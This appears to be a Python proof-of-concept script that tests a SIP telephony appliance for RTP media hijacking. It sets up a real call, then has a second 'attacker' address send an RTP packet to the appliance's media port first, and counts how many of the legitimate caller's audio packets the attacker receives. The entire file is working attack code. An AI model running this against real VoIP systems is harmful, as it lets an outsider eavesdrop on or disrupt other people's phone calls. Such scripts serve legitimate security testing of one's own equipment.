import sys,time,socket,re,struct; sys.path.insert(0,'/tmp/atk')
from sipx import *
H='10.99.0.1:5070'
caller=UA('10.98.0.2')   # the trunk peer: a real caller's call
media=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); media.bind(('10.98.0.2',0)); mport=media.getsockname()[1]
cid,tag=invite(caller, f'sip:96315@{H}', f'<sip:13800138000@{H}>', body=sdp('10.98.0.2',port=mport))
r,_=caller.final(6); print(r.split('\r\n')[0])
port=int(re.search(r'm=audio (\d+)',r).group(1)); cip=re.search(r'c=IN IP4 (\S+)',r).group(1); print('appliance media', cip, port)
ack(caller, f'sip:96315@{H}', f'<sip:13800138000@{H}>;tag={tag}', hdr(r,'To'), cid)
# attacker on another address sends one RTP packet first
att=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); att.bind(('10.99.0.57',0)); att.settimeout(2)
pkt=struct.pack('>BBHII',0x80,8,1,160,0x1234)+b'\xd5'*160
att.sendto(pkt,(cip,port))
time.sleep(0.1)
# now the real caller sends its media
for i in range(50): media.sendto(struct.pack('>BBHII',0x80,8,100+i,160*i,0x9999)+b'\xd5'*160,(cip,port)); time.sleep(0.02)
n=0; t0=time.time()
try:
    while time.time()-t0<2: att.recv(2000); n+=1
except socket.timeout: pass
media.settimeout(1); m=0
try:
    while True: media.recv(2000); m+=1
except socket.timeout: pass
print('attacker got', n, 'RTP packets in 2 s; real caller got', m)
bye(caller, f'sip:96315@{H}', f'<sip:13800138000@{H}>;tag={tag}', hdr(r,'To'), cid)
print(caller.final(3)[0].split('\r\n')[0])
